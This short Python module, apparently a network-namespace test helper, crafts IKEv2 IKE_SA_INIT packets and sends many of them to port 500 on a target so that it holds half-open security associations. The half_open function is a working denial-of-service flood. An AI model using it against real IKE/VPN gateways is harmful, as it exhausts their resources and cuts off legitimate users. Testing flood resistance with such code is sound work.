"""IKE_SA_INIT requests of peers that never come back."""
import os
import socket
import struct

from flow import socket_in

IKE, SA, KE, NONCE = 500, 33, 34, 40
INIT, INITIATOR = 34, 0x08


def _payload(following, body):
    return struct.pack("!BBH", following, 0, len(body) + 4) + body


def _transform(last, kind, number, attributes=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attributes), kind, 0, number) + attributes


def request():
    """AES-GCM-128, HMAC-SHA-256, X25519."""
    transforms = _transform(False, 1, 20, struct.pack("!HH", 0x800E, 128)) + _transform(False, 2, 5) + _transform(True, 4, 31)
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    body = _payload(KE, proposal) + _payload(NONCE, struct.pack("!HH", 31, 0) + os.urandom(32)) + _payload(0, os.urandom(32))
    return os.urandom(8) + struct.pack("!QBBBBII", 0, SA, 0x20, INIT, INITIATOR, 0, 28 + len(body)) + body


def half_open(namespace, source, target, count):
    """So many SAs that 'target' holds for a while."""
    with socket_in(namespace, socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((source, 0))
        for _ in range(count):
            s.sendto(request(), (target, IKE))
